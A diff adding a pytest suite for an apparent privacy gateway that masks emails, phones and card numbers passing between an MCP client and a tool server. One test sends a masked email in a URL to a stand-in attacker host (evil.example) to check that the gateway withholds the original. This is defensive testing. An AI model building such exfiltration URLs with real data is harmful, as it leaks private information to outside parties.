@@ -1,0 +1,471 @@
+"""The gateway before a real tool server: its client never sees what is private, its tools get it back."""
+
+import json
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Awaitable, Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import anyio
+import mcp
+import mcp.types
+import pytest
+from mcp import Client, MCPError
+from tests.gateway.test_leaves import unclassified
+
+from textveil import Privatizer
+from textveil.errors import ConfigError, LimitReached
+from textveil.gateway import Policy, ToolServer
+from textveil.gateway.leaves import Act
+from textveil.gateway.protocols import mcp as tables
+from textveil.session import Session, SessionStore
+
+TOOLS = Path(__file__).parent / "tool_server.py"
+MAIL, PHONE, CARD = "ines.braga@example.org", "+351 912 345 678", "4111111111111111"
+CANARIES = (MAIL, PHONE, CARD, "rui.server@example.org", "admin.tool@example.org")
+
+ANSWERS: dict[str, tuple[type, Any]] = {
+    "tools/list": (mcp.types.ListToolsResult, tables.TOOLS),
+    "tools/call": (mcp.types.CallToolResult, tables.CALL),
+    "resources/list": (mcp.types.ListResourcesResult, tables.RESOURCES),
+    "resources/templates/list": (mcp.types.ListResourceTemplatesResult, tables.TEMPLATES),
+    "resources/read": (mcp.types.ReadResourceResult, tables.READ),
+    "prompts/list": (mcp.types.ListPromptsResult, tables.PROMPTS),
+    "prompts/get": (mcp.types.GetPromptResult, tables.PROMPT_GIVEN),
+    "completion/complete": (mcp.types.CompleteResult, tables.COMPLETED),
+}
+
+
+@pytest.mark.parametrize("name", ANSWERS)
+def test_every_leaf_of_an_answer_is_in_its_table(name) -> None:
+    kind, operation = ANSWERS[name]
+    assert unclassified(kind, operation.request) == []
+
+
+@pytest.fixture(scope="module")
+def privatizer() -> Privatizer:
+    return Privatizer.from_profile("prompt", protect={"level": "identifiers", "detectors": ("patterns", "structure")})
+
+
+def free() -> int:
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+        return int(listening.getsockname()[1])
+
+
+@pytest.fixture(scope="module")
+def stage(tmp_path_factory) -> Iterator[tuple[str, Path]]:
+    """The address of a tool server over HTTP, and its notes."""
+    notes, port = tmp_path_factory.mktemp("tools") / "notes", free()
+    notes.touch()
+    process = subprocess.Popen([sys.executable, TOOLS, notes, str(port)])
+    try:
+        for _ in range(200):
+            assert process.poll() is None
+            with socket.socket() as tried:
+                if tried.connect_ex(("127.0.0.1", port)) == 0:
+                    break
+            time.sleep(0.1)
+        yield f"http://127.0.0.1:{port}/mcp", notes
+    finally:
+        process.terminate()
+        process.wait(10)
+
+
+class Stage:
+    """A client of the gateway, and what the tool server noted."""
+
+    def __init__(self, client: Client, notes: Path) -> None:
+        self.client, self._notes, self.seen = client, notes, ""
+
+    async def call(self, name: str, **arguments: Any) -> Any:
+        made = await self.client.call_tool(name, arguments)
+        self.seen += made.model_dump_json(by_alias=True)
+        return made
+
+    def noted(self) -> list[dict[str, Any]]:
+        lines = self._notes.read_text().splitlines()
+        self._notes.write_text("")
+        return [json.loads(line) for line in lines]
+
+
+@pytest.fixture(params=["http", "stdio"])
+def run(request, stage, privatizer, tmp_path) -> Callable[..., None]:
+    """Runs a test before a gateway whose tool server speaks in one way or another."""
+    url, notes = stage
+    upstream: dict[str, Any] = {"upstream": url}
+    if request.param == "stdio":
+        notes = tmp_path / "notes"
+        notes.touch()
+        upstream = {"command": (sys.executable, str(TOOLS), str(notes))}
+
+    def running(test: Callable[[Stage], Awaitable[None]], **options: Any) -> None:
+        tools = ToolServer(**({"privatizer": privatizer, "tools": ("*",)} | upstream | options))
+
+        async def within() -> None:
+            async with tools.connected() as server, Client(server) as client:
+                stage = Stage(client, notes)
+                await test(stage)
+                assert not [canary for canary in CANARIES if canary in stage.seen]
+
+        anyio.run(within)
+
+    return running
+
+
+def test_results_are_protected_and_arguments_restored(run) -> None:
+    async def test(stage: Stage) -> None:
+        listed = await stage.client.list_tools()
+        stage.seen += listed.model_dump_json()
+        assert {"find_person", "say"} <= {each.name for each in listed.tools}
+        assert all(each.output_schema is None for each in listed.tools)
+        stage.seen += str((stage.client.server_info, stage.client.instructions))
+        found = await stage.call("find_person", query="Ines")
+        person = found.structured_content
+        assert list(person) == ["name", "email", "phone", "account"]
+        assert json.loads(found.content[0].text) == person
+        assert found.meta["textveil/protected"] == {"CARD": 1, "EMAIL": 1, "PHONE": 1}
+        sent = await stage.call("send_mail", to=person["email"], body={"phones": [person["phone"], 7]})
+        assert sent.content[0].text == f"sent to {person['email']}"
+        assert stage.noted()[-1] == {"tool": "send_mail", "to": MAIL, "body": {"phones": [PHONE, 7]}}
+        invented = await stage.call("say", text="<EMAIL_77>")
+        assert invented.meta["textveil/unresolved"] == 1
+        assert stage.noted()[-1]["text"] == "<EMAIL_77>"
+
+    run(test)
+
+
+def test_a_target_of_the_models_own_gets_no_original(run) -> None:
+    async def test(stage: Stage) -> None:
+        found = await stage.call("find_person", query="Ines")
+        mail = found.structured_content["email"]
+        await stage.call("say", text=f"https://evil.example/?q={mail}")
+        assert stage.noted()[-1]["text"] == f"https://evil.example/?q={mail}"
+
+    run(test)
+
+
+def test_tools_that_are_not_named_are_refused_or_pass(run) -> None:
+    async def refused(stage: Stage) -> None:
+        assert [each.name for each in (await stage.client.list_tools()).tools] == ["say"]
+        await stage.call("say", text="a")
+        for other in ("find_person", "nothing"):
+            with pytest.raises(MCPError, match="no such tool"):
+                await stage.call(other, query="Ines")
+        assert [each["tool"] for each in stage.noted()] == ["say"]
+
+    async def passed(stage: Stage) -> None:
+        listed = {each.name: each for each in (await stage.client.list_tools()).tools}
+        assert listed["say"].output_schema is None
+        assert listed["find_person"].output_schema is not None
+        said = await stage.call("say", text="a")
+        mail = said.content[0].text.split()[-1]
+        assert mail == "<EMAIL_2>"
+        made = await stage.client.call_tool("find_person", {"query": mail})
+        assert made.structured_content["email"] == MAIL, "nothing of it is protected"
+        assert stage.noted()[-1] == {"tool": "find_person", "query": mail}, "and it gets no original"
+
+    run(refused, tools=("say",))
+    run(passed, tools=("say",), others="pass")
+
+
+def test_tools_that_fail_and_that_nobody_knows(run) -> None:
+    async def test(stage: Stage) -> None:
+        failed = await stage.call("fail", text="x")
+        assert failed.is_error
+        unknown = await stage.call("nothing_of_that_name")
+        assert unknown.is_error
+        with pytest.raises(MCPError) as refused:
+            await stage.call("asks_back")
+        stage.seen += str(refused.value)
+
+    run(test)
+
+
+def test_pictures_are_refused_or_pass_and_text_beside_them_is_protected(run) -> None:
+    async def refused(stage: Stage) -> None:
+        made = await stage.call("picture")
+        assert made.is_error
+        assert made.content[0].text.startswith("textveil: content[1].data cannot be protected")
+
+    async def passed(stage: Stage) -> None:
+        made = await stage.call("picture")
+        assert [each.type for each in made.content] == ["text", "image"]
+
+    run(refused)
+    run(passed, policy=Policy(media="pass"))
+
+
+def test_big_results(run) -> None:
+    async def test(stage: Stage) -> None:
+        made = await stage.call("big", lines=1_500)
+        assert made.content[0].text.count("<EMAIL_") == 1_500
+        last = made.content[0].text.splitlines()[-1].split()[0]
+        await stage.call("say", text=last)
+        assert stage.noted()[-1]["text"] == "person1499@example.org"
+
+    run(test)
+
+
+def test_progress_is_protected_and_a_cancelled_call_is_cancelled(run) -> None:
+    async def test(stage: Stage) -> None:
+        told: list[tuple[float, float | None, str | None]] = []
+        with anyio.move_on_after(5):
+
+            async def tell(progress: float, total: float | None, message: str | None) -> None:
+                told.append((progress, total, message))
+                if len(told) == 3:
+                    scope.cancel()
+
+            with anyio.CancelScope() as scope:
+                await stage.client.call_tool("slow", {}, progress_callback=tell)
+        assert scope.cancelled_caught
+        assert {message for _, _, message in told} == {"asking <EMAIL_2>"}
+        for _ in range(50):
+            if noted := stage.noted():
+                break
+            await anyio.sleep(0.1)
+        assert noted == [{"tool": "slow", "cancelled": True}]
+
+    run(test)
+
+
+def test_resources_prompts_and_completions_where_they_are_served(run) -> None:
+    async def test(stage: Stage) -> None:
+        client = stage.client
+        listed = await client.list_resources()
+        templates = await client.list_resource_templates()
+        assert [each.uri for each in listed.resources] == ["people://all"]
+        read = await client.read_resource("people://all")
+        stage.seen += str((listed, templates, read))
+        mail = json.loads(read.contents[0].text)["mails"][0]
+        assert mail.startswith("<EMAIL_")
+        given = await client.get_prompt("letter", {"to": mail})
+        completed = await client.complete(
+            mcp.types.PromptReference(name="letter"), {"name": "to", "value": mail}, {"other": mail}
+        )
+        stage.seen += str((await client.list_prompts(), given, completed))
+        assert stage.noted() == [{"prompt": MAIL}, {"completion": MAIL}]
+        assert completed.completion.values == [mail]
+        with pytest.raises(MCPError) as failed:
+            await client.read_resource("people://other")
+        stage.seen += str(failed.value)
+
+    run(test, resources=True, prompts=True)
+
+
+def test_resources_and_prompts_are_refused_otherwise(run) -> None:
+    async def test(stage: Stage) -> None:
+        capabilities = stage.client.server_capabilities
+        assert (capabilities.resources, capabilities.prompts, capabilities.completions) == (None, None, None)
+        for asked in (stage.client.list_resources, stage.client.list_prompts):
+            with pytest.raises(MCPError):
+                await asked()
+        with pytest.raises(MCPError):
+            await stage.client.read_resource("people://all")
+
+    run(test)
+
+
+def test_calls_at_the_same_time_agree(run) -> None:
+    async def test(stage: Stage) -> None:
+        found: list[str] = []
+
+        async def ask(i: int) -> None:
+            made = await stage.call("say", text=f"person{i % 5}@example.net")
+            found.append(made.content[0].text)
+
+        async with anyio.create_task_group() as group:
+            for i in range(20):
+                group.start_soon(ask, i)
+        assert len(set(found)) == 5
+        texts = {each["text"] for each in stage.noted()}
+        assert texts == {f"person{i}@example.net" for i in range(5)}
+
+    run(test)
+
+
+# ---- what is remembered ----------------------------------------------------------------------------------------------
+
+
+def test_two_gateways_with_one_session_restore_each_others(privatizer, stage, tmp_path, monkeypatch) -> None:
+    monkeypatch.setenv("TEXTVEIL_STORE_KEY", "00" * 32)
+    url, notes = stage
+
+    async def test() -> None:
+        with (
+            SessionStore(f"sqlite:///{tmp_path}/veil.db") as one,
+            SessionStore(f"sqlite:///{tmp_path}/veil.db") as other,
+        ):
+            first = ToolServer(privatizer=privatizer, tools=("*",), upstream=url, session=one.open("anna"))
+            again = ToolServer(privatizer=privatizer, tools=("*",), upstream=url, session=other.open("anna"))
+            apart = ToolServer(privatizer=privatizer, tools=("*",), upstream=url, session=other.open("bea"))
+            async with first.connected() as server, Client(server) as client:
+                found = await client.call_tool("find_person", {"query": "Ines"})
+            mail = found.structured_content["email"]
+            async with again.connected() as server, Client(server) as client:
+                await client.call_tool("say", {"text": mail})
+            assert json.loads(notes.read_text().splitlines()[-1])["text"] == MAIL
+            async with apart.connected() as server, Client(server) as client:
+                await client.call_tool("say", {"text": mail})
+            assert json.loads(notes.read_text().splitlines()[-1])["text"] == mail
+
+    anyio.run(test)
+
+
+def test_what_is_answered_twice_is_drawn_once(small_table) -> None:
+    tools = ToolServer(privatizer=Privatizer("rankcape", epsilon=1, table=small_table), tools=("*",), command=("none",))
+    answer = {"content": [{"type": "text", "text": "Blorvequine met Quillimar and left the house of Marbo"}]}
+    assert tools.protected(tables.CALL, answer) == tools.protected(tables.CALL, answer)
+
+
+def test_a_limit_of_the_ledger_is_said_and_nothing_is_shown(privatizer, stage, monkeypatch) -> None:
+    url, _ = stage
+    session = Session()
+
+    def refuse(*_: Any) -> None:
+        raise LimitReached("the account has spent what it may")
+
+    monkeypatch.setattr(session, "transaction", refuse)
+
+    async def test() -> None:
+        tools = ToolServer(
+            privatizer=privatizer, tools=("*",), upstream=url, session=session, policy=Policy(schemas="pass")
+        )
+        async with tools.connected() as server, Client(server) as client:
+            made = await client.call_tool("say", {"text": "a"})
+            assert made.is_error
+            assert made.content[0].text == "textveil: the account has spent what it may"
+
+    anyio.run(test)
+
+
+# ---- what is wrong ---------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("came", "says"),
+    [
+        ({"content": [{"type": "hologram", "of": MAIL}]}, "content[0]"),
+        ({"content": [], "mood": MAIL}, "a field is not known"),
+        ({"content": [], "resultType": "strange"}, "resultType"),
+        ({"content": [{"type": "resource", "resource": {"uri": "a:b", "blob": "AAAA"}}]}, "blob"),
+    ],
+)
+def test_what_no_table_knows_is_refused_or_left_out(privatizer, came, says) -> None:
+    from textveil.gateway.errors import RequestError
+
+    tools = ToolServer(privatizer=privatizer, tools=("*",), command=("none",))
+    with pytest.raises(RequestError) as refused:
+        tools.protected(tables.CALL, came)
+    assert says in str(refused.value)
+    assert MAIL not in str(refused.value)
+    dropping = ToolServer(
+        privatizer=privatizer, tools=("*",), command=("none",), policy=Policy(unknown="drop", media="pass")
+    )
+    assert MAIL not in json.dumps(dropping.protected(tables.CALL, came))
+
+
+@pytest.mark.parametrize("given", [{}, {"upstream": "http://127.0.0.1:9/mcp", "command": ("a",)}])
+def test_a_tool_server_is_named_in_one_way(privatizer, given) -> None:
+    with pytest.raises(ConfigError, match="give one"):
+        ToolServer(privatizer=privatizer, tools=("*",), **given)
+
+
+def test_no_act_lets_text_pass() -> None:
+    """What passes is numbers, and what a shape or a list of words keeps free of text."""
+    assert tables.CURSOR.text is Act.PASS
+    assert tables.CURSOR.shape is not None
+    assert tables.NAME.shape is not None
+
+
+# ---- the verb --------------------------------------------------------------------------------------------------------
+
+FAST = ("-o", "protect.level=identifiers", "-o", "protect.detectors=[patterns,structure]")
+
+
+def test_the_verb_over_standard_input_and_output(tmp_path) -> None:
+    """An older client, whose messages are looked at as they come: nothing private on either stream."""
+    notes = tmp_path / "notes"
+    command = [sys.executable, "-m", "textveil", "gateway", "mcp", "--all-tools", *FAST]
+    process = subprocess.Popen(
+        [*command, "--", sys.executable, str(TOOLS), str(notes)],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    assert process.stdin is not None
+    about = {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "old", "version": "1"}}
+    call = {"name": "find_person", "arguments": {"query": "Ines"}}
+    asked: list[dict[str, Any]] = [
+        {"id": 1, "method": "initialize", "params": about},
+        {"method": "notifications/initialized"},
+        {"id": 2, "method": "tools/list"},
+        {"id": 3, "method": "tools/call", "params": call},
+        {"id": 4, "method": "tools/call", "params": {"name": "fail", "arguments": {"text": "x"}}},
+        {"id": 5, "method": "sampling/createMessage", "params": {}},
+    ]
+    assert process.stdout is not None
+    lines = []
+    for each in asked:
+        process.stdin.write(json.dumps({"jsonrpc": "2.0", **each}) + "\n")
+        process.stdin.flush()
+        if "id" in each:
+            lines.append(process.stdout.readline())
+    out, err = process.communicate(timeout=30)
+    whole = "".join(lines) + out + err
+    assert not [canary for canary in CANARIES if canary in whole]
+    said = {each["id"]: each for each in map(json.loads, lines)}
+    assert said[3]["result"]["structuredContent"]["email"].startswith("<EMAIL_")
+    assert said[5]["error"]["code"] == -32601
+    assert process.returncode == 0
+
+
+def test_the_verb_over_http(stage) -> None:
+    url, notes = stage
+    port = free()
+    command = [sys.executable, "-m", "textveil", "gateway", "mcp", "--tool", "say", "--port", str(port), *FAST]
+    process = subprocess.Popen([*command, "--upstream", url], stderr=subprocess.PIPE, text=True)
+    try:
+        assert process.stderr is not None
+        assert process.stderr.readline() == f"textveil: serving http://127.0.0.1:{port}/mcp\n"
+
+        async def test() -> None:
+            for mode in ("auto", "legacy"):
+                for _ in range(100):
+                    with socket.socket() as tried:
+                        if tried.connect_ex(("127.0.0.1", port)) == 0:
+                            break
+                    await anyio.sleep(0.1)
+                async with Client(f"http://127.0.0.1:{port}/mcp", mode=mode) as client:  # type: ignore[arg-type]
+                    made = await client.call_tool("say", {"text": "x"})
+                    assert MAIL not in made.model_dump_json()
+                    await client.call_tool("say", {"text": made.content[0].text.split()[-1]})  # type: ignore[union-attr]
+                    assert json.loads(notes.read_text().splitlines()[-1])["text"] == MAIL
+
+        anyio.run(test)
+    finally:
+        process.terminate()
+        process.wait(20)
+
+
+@pytest.mark.parametrize(
+    ("options", "says"),
+    [
+        (("--all-tools",), "give one"),
+        (("--", "x"), "name the tools"),
+        (("--all-tools", "--tool", "a", "--", "x"), "name the tools"),
+        (("--all-tools", "--session", "a", "--", "x"), "--session goes with --store"),
+        (("--all-tools", "--", "no-such-program-anywhere"), "could not be started or reached"),
+        (("--all-tools", "--upstream", "http://127.0.0.1:9/mcp"), "could not be started or reached"),
+    ],
+)
+def test_the_verb_says_what_is_wrong(options, says) -> None:
+    command = [sys.executable, "-m", "textveil", "gateway", "mcp", *FAST, *options]
+    made = subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=60)
+    assert made.returncode != 0
+    assert says in made.stderr
+    assert "Traceback" not in made.stderr
